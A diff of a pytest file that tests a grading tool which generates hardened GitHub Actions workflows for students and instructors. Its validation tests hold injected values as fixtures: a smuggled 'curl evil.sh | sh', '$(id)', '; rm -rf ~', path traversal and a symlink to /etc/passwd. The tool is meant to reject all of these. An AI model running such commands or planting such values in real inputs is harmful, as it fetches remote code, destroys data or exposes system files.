@@ -1,8 +1,13 @@
-"""`grade init-ci`: the student workflow is valid YAML, keeps the tests outside the repo, and its grade step works."""
+"""`grade init-ci`: the student workflow holds no secret; the instructor workflow grades the class at
+the deadline in shards. Both are parsed and checked, and their grading steps run here as far as
+a machine without GitHub can: the same bash scripts, with git remotes on disk."""
 import json
 import os
+import re
 import subprocess
+import sys
 
+import pytest
 import yaml
 from click.testing import CliRunner
 
@@ -10,55 +15,173 @@ from grader.cli import main
 
 from classroom import WRONG, make_pack, make_student
 
-ARGS = ["init-ci", "--course-repo", "prof/ml-course-private", "--course-path", "packs/2026",
-        "--grader", "grader @ git+https://github.com/prof/grader@v0.1.0", "--fail-under", "50"]
+GRADER = "torch-loss-grader==0.1.0"
+SHELL = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c"]  # what `shell: bash` runs
+PATH = f"{os.path.dirname(sys.executable)}{os.pathsep}{os.environ['PATH']}"
 
 
-def _workflow(repo):
-    result = CliRunner().invoke(main, [*ARGS, "--repo", str(repo)])
+def _init(repo, *args):
+    result = CliRunner().invoke(main, ["init-ci", "--grader", GRADER, "--repo", str(repo), *map(str, args)])
     assert result.exit_code == 0, result.output
-    return yaml.safe_load((repo / ".github/workflows/grade.yml").read_text())
+    path = re.search(r"wrote (\S+);", result.output)[1]
+    return path, yaml.safe_load(open(path).read())
 
 
-def test_workflow_installs_fetches_grades_and_uploads(tmp_path):
-    workflow = _workflow(tmp_path)
+def _steps(job):
+    return {step.get("name", step.get("uses", "").split("@")[0]): step for step in job["steps"]}
+
+
+def _hardened(workflow):
+    assert workflow["permissions"] == {"contents": "read"}
+    assert workflow["defaults"] == {"run": {"shell": "bash"}}
+    for job in workflow["jobs"].values():
+        for step in job["steps"]:
+            if "uses" in step:
+                assert re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
+            if step.get("uses", "").startswith("actions/checkout@"):
+                assert step["with"]["persist-credentials"] is False
+        assert any(s.get("uses", "").startswith("actions/cache@") for s in job["steps"])  # pip cache
+
+
+def _run_step(step, env, cwd):
+    proc = subprocess.run([*SHELL, step["run"]], cwd=cwd, env={**os.environ, "PATH": PATH, **env, **step.get("env", {})},
+                          capture_output=True, text=True, timeout=300)
+    assert proc.returncode == 0, proc.stderr
+    return proc
+
+
+def test_student_workflow_holds_no_secret(tmp_path):
+    path, workflow = _init(tmp_path, "--fail-under", 50)
+    assert path.endswith("grade-day3.yml")
+    _hardened(workflow)
+    text = open(path).read()
+    assert "secrets." not in text and "TOKEN" not in text
     assert workflow[True] == ["push", "workflow_dispatch"]  # YAML 1.1 reads the key `on` as true
-    steps = workflow["jobs"]["grade"]["steps"]
-    assert [s.get("uses", s.get("name")) for s in steps] == [
-        "actions/checkout@v4", "actions/setup-python@v5", "Install the grader",
-        "Fetch the course pack (kept outside this repository)", "Grade", "actions/upload-artifact@v4"]
-    install, fetch, grade, upload = steps[2:]
-    assert '"grader @ git+https://github.com/prof/grader@v0.1.0"' in install["run"]
-    assert "github.com/prof/ml-course-private.git\" \"$RUNNER_TEMP/course\"" in fetch["run"]
-    assert fetch["env"]["COURSE_TOKEN"] == "${{ secrets.COURSE_TOKEN }}"
-    assert "GRADER_COURSE=$RUNNER_TEMP/course/packs/2026" in fetch["run"]
-    assert "--format github" in grade["run"] and "--format gradescope" in grade["run"]
-    assert "--fail-under 50" in grade["run"] and grade["working-directory"] == "${{ runner.temp }}"
-    assert upload["if"] == "always()" and "results.json" in upload["with"]["path"]
+    assert workflow["env"]["GRADER_SPEC"] == GRADER
+    other, _ = _init(tmp_path, "--day", "day4")
+    assert other.endswith("grade-day4.yml") and os.path.exists(path)  # one file per day
 
 
-def test_refuses_to_overwrite_and_rejects_bad_repo(tmp_path):
-    _workflow(tmp_path)
-    again = CliRunner().invoke(main, [*ARGS, "--repo", str(tmp_path)])
+@pytest.mark.parametrize("args, word", [
+    (["--day", 'day3"; curl evil.sh | sh; "'], "--day"),
+    (["--day", "day3$(id)"], "--day"),
+    (["--exercises", "../../etc"], "--exercises"),
+    (["--course-repo", "a/b", "--course-path", "x/$HOME"], "--course-path"),
+    (["--course-repo", "not a repo"], "owner/name"),
+    (["--secret", "COURSE_TOKEN"], "no secret"),
+    (["--role", "instructor", "--deadline", "2026-12-01T23:59"], "time zone"),
+    (["--role", "instructor", "--deadline", "tomorrow"], "ISO 8601"),
+    (["--role", "instructor", "--deadline", "2026-12-01T23:59Z", "--roster", "a;b"], "--roster"),
+    (["--role", "instructor"], "--deadline"),
+])
+def test_every_value_is_validated(tmp_path, args, word):
+    result = CliRunner().invoke(main, ["init-ci", "--grader", GRADER, "--repo", str(tmp_path), *args])
+    assert result.exit_code == 2 and word in result.output, result.output
+    assert not (tmp_path / ".github").exists()
+
+
+def test_bad_grader_spec_and_overwrite(tmp_path):
+    bad = CliRunner().invoke(main, ["init-ci", "--grader", 'x" ; rm -rf ~', "--repo", str(tmp_path)])
+    assert bad.exit_code == 2 and "--grader" in bad.output
+    _init(tmp_path)
+    again = CliRunner().invoke(main, ["init-ci", "--grader", GRADER, "--repo", str(tmp_path)])
     assert again.exit_code == 2 and "--force" in again.output
-    bad = CliRunner().invoke(main, [*ARGS[:2], "not a repo", *ARGS[3:], "--repo", str(tmp_path / "x")])
-    assert bad.exit_code == 2 and "owner/name" in bad.output
 
 
-def test_grade_step_runs_against_a_private_pack(tmp_path):
-    """Run the workflow's own Grade script as the runner would, after the fetch step set GRADER_COURSE."""
-    student = make_student(tmp_path / "subs", "ada", {"l1_loss": WRONG})  # the student's checkout
+def test_student_grade_step_runs(tmp_path):
+    """The workflow's own Grade script, as the runner would run it, with the grader's own pack."""
+    student = make_student(tmp_path / "subs", "ada", {"l1_loss": WRONG})
     (student / "exercises").mkdir()
     (student / "day3").rename(student / "exercises" / "day3")
-    grade = _workflow(student)["jobs"]["grade"]["steps"][4]
+    _path, workflow = _init(student, "--fail-under", 1)
     runner_temp = tmp_path / "runner"
     runner_temp.mkdir()
     summary = tmp_path / "step-summary.md"
-    env = {**os.environ, "GITHUB_WORKSPACE": str(student), "RUNNER_TEMP": str(runner_temp),
-           "GRADER_COURSE": str(make_pack(tmp_path)), "GITHUB_STEP_SUMMARY": str(summary)}
-    proc = subprocess.run(["bash", "-e", "-c", grade["run"]], cwd=runner_temp, env=env, capture_output=True,
-                          text=True, timeout=300)
-    assert proc.returncode == 0, proc.stderr  # 50% is not under --fail-under 50
+    env = {**workflow["env"], "GITHUB_WORKSPACE": str(student), "RUNNER_TEMP": str(runner_temp),
+           "GITHUB_STEP_SUMMARY": str(summary), "GRADER_COURSE": str(make_pack(tmp_path))}
+    _run_step(_steps(workflow["jobs"]["grade"])["Grade"], env, runner_temp)
     results = json.loads((runner_temp / "results.json").read_text())
     assert [(t["name"], t["score"]) for t in results["tests"]] == [("mse_loss", 1.0), ("l1_loss", 0.0)]
     assert "| ❌ | `l1_loss` |" in summary.read_text()
+
+
+def test_instructor_workflow_structure(tmp_path):
+    path, workflow = _init(tmp_path, "--role", "instructor", "--deadline", "2026-12-01T23:59:00+01:00", "--shards", 3)
+    assert path.endswith("grade-class-day3.yml")
+    _hardened(workflow)
+    grade, merge = workflow["jobs"]["grade"], workflow["jobs"]["merge"]
+    assert workflow["env"]["DEADLINE"] == "2026-12-01T22:59:00Z"
+    assert grade["container"]["image"].startswith("python:") and grade["strategy"]["matrix"]["shard"] == [1, 2, 3]
+    steps = _steps(grade)
+    shard = steps["Grade this shard"]
+    assert shard["env"]["SHARD_INDEX"] == "${{ strategy.job-index }}"
+    assert shard["env"]["SHARD_TOTAL"] == "${{ strategy.job-total }}"
+    assert shard["env"]["GRADER_SECRET"] == "${{ secrets.GRADER_SECRET }}"
+    fetch = steps["Fetch each student's last commit before the deadline"]
+    assert fetch["env"] == {"STUDENTS_TOKEN": "${{ secrets.STUDENTS_TOKEN }}"}
+    assert "secrets." not in json.dumps(workflow["env"])  # secrets only in the steps that need them
+    assert merge["needs"] == "grade" and merge["if"] == "always()"
+    assert any("grade merge" in s.get("run", "") for s in merge["steps"])
+    assert "${{" not in "".join(s.get("run", "") for job in workflow["jobs"].values() for s in job["steps"])
+
+
+def _git(*args, cwd, date=None):
+    env = {**os.environ, "GIT_AUTHOR_NAME": "s", "GIT_AUTHOR_EMAIL": "s@x", "GIT_COMMITTER_NAME": "s",
+           "GIT_COMMITTER_EMAIL": "s@x"}
+    if date:
+        env.update(GIT_AUTHOR_DATE=date, GIT_COMMITTER_DATE=date)
+    subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True)
+
+
+def _student_repo(remotes, name, before: dict, after: dict | None = None):
+    """A student's repository on disk: one commit before the deadline, maybe one after."""
+    work = remotes / "work" / name
+    make_student(work, "x", before)
+    (work / "x").rename(work / "exercises")
+    os.symlink("/etc/passwd", work / "exercises" / "day3" / "leak.py")
+    _git("init", "-q", "-b", "main", cwd=work)
+    _git("add", "-A", cwd=work)
+    _git("commit", "-qm", "before", cwd=work, date="2026-12-01T10:00:00Z")
+    if after is not None:
+        for exercise, source in after.items():
+            (work / "exercises" / "day3" / f"{exercise}.py").write_text(source.format(name=exercise))
+        _git("commit", "-qam", "after", cwd=work, date="2026-12-02T10:00:00Z")
+    _git("clone", "-q", "--bare", str(work), str(remotes / "org" / f"{name}.git"), cwd=remotes)
+
+
+def test_instructor_steps_fetch_grade_and_merge(tmp_path):
+    remotes = tmp_path / "remotes"
+    (remotes / "org").mkdir(parents=True)
+    _student_repo(remotes, "day3-ada", {}, after={"mse_loss": WRONG})  # broke it after the deadline
+    _student_repo(remotes, "day3-bob", {"l1_loss": WRONG})
+    repo = tmp_path / "instructor"
+    make_pack(repo, quiz=True)
+    (repo / "roster.txt").write_text("# students\norg/day3-ada\norg/day3-bob\norg/day3-gone\n")
+    _path, workflow = _init(repo, "--role", "instructor", "--deadline", "2026-12-01T23:59:00Z", "--shards", 2)
+    runner_temp = tmp_path / "runner"
+    runner_temp.mkdir()
+    env = {**workflow["env"], "RUNNER_TEMP": str(runner_temp), "GIT_BASE": f"file://{remotes}",
+           "STUDENTS_TOKEN": "not-a-real-token", "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md")}
+    steps = _steps(workflow["jobs"]["grade"])
+    _run_step(steps["Keep the course pack readable by root only"], env, repo)
+    _run_step(steps["Fetch each student's last commit before the deadline"], env, repo)
+    submissions = runner_temp / "submissions"
+    assert sorted(p.name for p in submissions.iterdir()) == ["day3-ada", "day3-bob", "day3-gone"]
+    leak = submissions / "day3-ada/day3/leak.py"  # a symlink arrives as a plain file holding its target's name
+    assert not leak.is_symlink() and "root:" not in leak.read_text()
+    assert "not-a-real-token" not in "".join(p.read_text(errors="replace") for p in runner_temp.rglob("*") if p.is_file())
+    for index in ("0", "1"):
+        shard_env = {**env, "SHARD_INDEX": index, "SHARD_TOTAL": "2", "GRADER_SECRET": ""}
+        _run_step({**steps["Grade this shard"], "env": {}}, shard_env, repo)
+        (tmp_path / "shards" / f"grades-day3-shard-{index}").mkdir(parents=True)
+        shard = f"shard-{int(index) + 1}"
+        (repo / "grades" / shard).rename(tmp_path / "shards" / f"grades-day3-shard-{index}" / shard)
+    merge = next(s for s in workflow["jobs"]["merge"]["steps"] if "grade merge" in s.get("run", ""))
+    _run_step(merge, env, tmp_path)
+    book = (tmp_path / "gradebook" / "gradebook.csv").read_text().splitlines()
+    rows = {line.split(",")[0]: line.split(",") for line in book[1:]}
+    assert rows["day3-ada"][1:3] == ["1.0", "1.0"]  # graded at the deadline, not after
+    assert rows["day3-bob"][1:3] == ["1.0", "0.0"] and rows["day3-gone"][1:3] == ["0.0", "0.0"]
+    assert "Class summary" in (tmp_path / "summary.md").read_text()
+    commits = (tmp_path / "gradebook" / "commits.txt").read_text()
+    assert "day3-ada " in commits and "day3-gone" not in commits
